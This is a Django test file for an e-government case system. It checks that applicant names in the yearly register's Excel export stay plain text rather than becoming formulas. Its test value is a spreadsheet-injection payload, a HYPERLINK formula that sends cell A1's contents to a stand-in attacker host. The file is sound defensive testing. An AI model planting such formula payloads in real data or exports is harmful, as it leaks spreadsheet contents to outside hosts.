"""The yearly register (form 06) as Excel keeps what applicants typed as text, never as a formula."""

import io
from typing import Any

from django.utils import timezone
from openpyxl import load_workbook

from egov.submission.tests.test_submission import LOC_TAN, citizen, submit

NAME = '=HYPERLINK("http://ke-gian.example/?"&A1,"Nguyễn Văn An")'  # as typed at sign-up


def test_formula_like_names_in_the_register_stay_text(marriage: Any, officer_client: Any) -> None:
    applicant = citizen()
    applicant.full_name = NAME
    applicant.save(update_fields=["full_name"])
    dossier, _ = submit(marriage, applicant=applicant)
    client = officer_client("motcua.loctan@binhphuoc.demo")
    client.post(
        f"/can-bo/ho-so/{dossier.code}/quyet-dinh/", {"decision": "receive", "version": dossier.version}
    )
    year = timezone.localdate().year
    response = client.get("/can-bo/so-theo-doi/", {"nam": year, "co_quan": LOC_TAN, "dinh_dang": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert sheet is not None
    [row] = [row for row in sheet.iter_rows() if row[1].value == dossier.code]
    assert (row[4].value, row[4].data_type, row[4].quotePrefix) == (NAME, "s", True)
    assert not [c.coordinate for r in sheet.iter_rows() for c in r if c.data_type == "f"]
